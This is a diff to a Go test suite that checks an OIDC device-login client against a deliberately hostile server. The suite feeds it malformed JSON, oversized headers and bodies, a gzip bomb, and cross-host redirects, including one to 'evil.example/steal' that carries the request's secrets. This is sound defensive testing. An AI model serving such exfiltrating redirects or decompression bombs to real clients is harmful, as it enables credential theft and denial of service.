@@ -345,7 +345,7 @@ func hostileCalls() []hostileCall {
 				case "subject_types_supported":
 					return true
 				case "ones_applications_uri":
-					return absent(variant) || variant == echoVariant || variant == "escapes"
+					return absent(variant) || variant == echoVariant || variant == "escapes" || variant == longEscapes
 				}
 				return absent(variant) || variant == echoVariant
 			},
@@ -385,6 +385,26 @@ func hostileCalls() []hostileCall {
 			call: func(ctx context.Context, e *hostileEnv) error {
 				_, err := e.c.DeviceAccessToken(ctx)
 				return err
+			},
+		},
+		{
+			// DeviceHTTPClient gets the device token on its first request: net/http wraps the
+			// error in a *url.Error.
+			name: "device HTTP client", path: "/oidc/token", accepts: tokenResponseAccepts,
+			call: func(ctx context.Context, e *hostileEnv) error {
+				req, err := http.NewRequestWithContext(ctx, http.MethodGet, "http://localhost/resource", nil)
+				if err != nil {
+					return err
+				}
+				resp, err := e.c.DeviceHTTPClient(e.hc).Do(req)
+				if err != nil {
+					return err
+				}
+				resp.Body.Close()
+				if resp.StatusCode != http.StatusOK {
+					return fmt.Errorf("resource answered %d", resp.StatusCode)
+				}
+				return nil
 			},
 		},
 		{
@@ -461,7 +481,7 @@ func hostileCalls() []hostileCall {
 			// is optional, an absent active is false); dates are checked for their range only.
 			accepts: func(member, variant string) bool {
 				switch {
-				case absent(variant), variant == "escapes", variant == echoVariant:
+				case absent(variant), variant == "escapes", variant == longEscapes, variant == echoVariant:
 					return true
 				case member == "exp" || member == "iat" || member == "nbf":
 					return variant == "zero" || variant == "fraction" || variant == "two hours" || variant == "a week"
@@ -485,8 +505,8 @@ func hostileCalls() []hostileCall {
 			// are optional (RFC 7662 §2.2), an iat of 0 is none.
 			accepts: func(member, variant string) bool {
 				switch member {
-				case "sub", "client_id", "scope":
-					return absent(variant) || variant == "escapes" || variant == echoVariant
+				case "sub", "client_id", "scope": // a sub over 255 characters is refused
+					return absent(variant) || variant == "escapes" || variant == echoVariant || (variant == longEscapes && member != "sub")
 				case "iss", "exp", "iat":
 					return absent(variant) || (member == "iat" && variant == "zero")
 				}
@@ -666,6 +686,7 @@ func hostileClasses() []*hostileClass {
 		{name: "HTML with 502 and no Content-Type", answer: fixed(502, "-", "<html>Bad Gateway</html>")},
 		{name: "empty body 200", answer: fixed(200, "application/json", ""), accept: noBodyCall},
 		{name: "empty body 500", answer: fixed(500, "application/json", "")},
+		{name: "204 No Content", answer: fixed(204, "", ""), accept: noBodyCall},
 		{name: "JSON null", answer: fixed(200, "application/json", "null"), accept: noBodyCall},
 		{name: "JSON array", answer: fixed(200, "application/json", "[]"), accept: func(c *hostileCall) bool {
 			return c.noBody || c.name == "applications" // the ONES application list is an array; empty is a list
@@ -679,6 +700,12 @@ func hostileClasses() []*hostileClass {
 		{name: "UTF-8 BOM", answer: mutate(func(b []byte) []byte { return append([]byte("\ufeff"), b...) }), accept: noBodyCall},
 		{name: "nested 20000 deep", answer: fixed(200, "application/json", strings.Repeat("[", 20000)+strings.Repeat("]", 20000)), accept: noBodyCall},
 		{name: "huge body", answer: fixed(200, "application/json", hugeJSON), accept: noBodyCall},
+		// net/http bounds response headers (Transport.MaxResponseHeaderBytes, 10 MB by default).
+		{name: "huge header", accept: anyCall, answer: func(w http.ResponseWriter, r *http.Request, good func() *httptest.ResponseRecorder) {
+			w.Header().Set("X-Pad", strings.Repeat("p", 2<<20))
+			rec := good()
+			replay(w, rec, rec.Body.Bytes())
+		}},
 		{name: "huge error body", answer: fixed(400, "application/json", hugeError)},
 		{name: "gzip bomb", answer: func(w http.ResponseWriter, _ *http.Request, _ func() *httptest.ResponseRecorder) {
 			w.Header().Set("Content-Encoding", "gzip")
@@ -766,6 +793,10 @@ func hostileClasses() []*hostileClass {
 		{name: "redirect to another host", answer: func(w http.ResponseWriter, r *http.Request, _ func() *httptest.ResponseRecorder) {
 			w.Header().Set("Location", "http://evil.example/steal?s="+url.QueryEscape(strings.Join(requestSecrets(r), ","))+"#"+strings.Join(requestSecrets(r), ""))
 			writeAnswer(w, http.StatusFound, "", nil)
+		}},
+		{name: "308 to another host", answer: func(w http.ResponseWriter, r *http.Request, _ func() *httptest.ResponseRecorder) {
+			w.Header().Set("Location", "http://evil.example"+r.URL.Path)
+			writeAnswer(w, http.StatusPermanentRedirect, "", nil)
 		}},
 		{name: "307 to another host", answer: func(w http.ResponseWriter, r *http.Request, _ func() *httptest.ResponseRecorder) {
 			w.Header().Set("Location", "http://evil.example"+r.URL.Path)
@@ -921,6 +952,9 @@ var memberVariants = []memberVariant{
 	{name: "1e400", numeric: true, raw: func(json.RawMessage) string { return "1e400" }},
 	{name: "20000 digits", numeric: true, raw: func(json.RawMessage) string { return "1" + strings.Repeat("0", 20000) }},
 	{name: "escapes", text: true, raw: func(json.RawMessage) string { return string(mustJSON(hostileEscapes)) }},
+	{name: longEscapes, text: true, raw: func(json.RawMessage) string {
+		return string(mustJSON("https://idp.example/" + strings.Repeat("a", 10<<10) + "\x1b[0m"))
+	}},
 }
 
 // memberAccept returns the accept rule of a member class of call.
@@ -954,6 +988,9 @@ func tokenResponseAccepts(member, variant string) bool {
 func qrStatusAccepts(member, variant string) bool {
 	return member == "issue_time" || (member == "deviceId" && absent(variant))
 }
+
+// longEscapes is the variant of a long string with an escape.
+const longEscapes = "10 KB with an escape"
 
 // echoVariant puts the credentials of the request into a string member.
 const echoVariant = "echo of our secrets"
@@ -1057,6 +1094,11 @@ func newHostileEnv(t *testing.T, key *DeviceKey, call *hostileCall, class *hosti
 	idp.SetDeviceID(testClientID, testDeviceID)
 	mux := http.NewServeMux()
 	mux.Handle("/sign", fakeSigner{key})
+	mux.HandleFunc("/resource", func(w http.ResponseWriter, r *http.Request) {
+		if !strings.HasPrefix(r.Header.Get("Authorization"), "Bearer ") {
+			w.WriteHeader(http.StatusUnauthorized)
+		}
+	})
 	mux.Handle("/", idp.Handler())
 	hs := &hostileServer{next: mux, target: call.path, class: class}
 	pn := newPipeNet()
@@ -1202,7 +1244,11 @@ func checkHostileOutcome(t *testing.T, e *hostileEnv, call *hostileCall, class *
 		}
 		return
 	}
-	msg := err.Error()
+	msg, inner := err.Error(), err
+	if ue, ok := err.(*url.Error); ok {
+		// net/http's wrapping of what a RoundTripper (DeviceHTTPClient) returned
+		msg, inner = ue.Err.Error(), ue.Err
+	}
 	var (
 		he *HTTPError
 		oe *OAuthError
@@ -1219,7 +1265,7 @@ func checkHostileOutcome(t *testing.T, e *hostileEnv, call *hostileCall, class *
 	// A context that ends while nothing is in flight gives ctx.Err() as it is (WaitForCIBA,
 	// WaitForQRLogin, DeviceAccessToken say so); a wait whose next poll would come after the
 	// deadline says so with an error that matches context.DeadlineExceeded.
-	bareCtx := err == context.DeadlineExceeded || err == context.Canceled
+	bareCtx := inner == context.DeadlineExceeded || inner == context.Canceled
 	typed = typed || errors.Is(err, context.DeadlineExceeded) || errors.Is(err, context.Canceled)
 	if !typed {
 		t.Errorf("untyped error %T: %v", err, err)
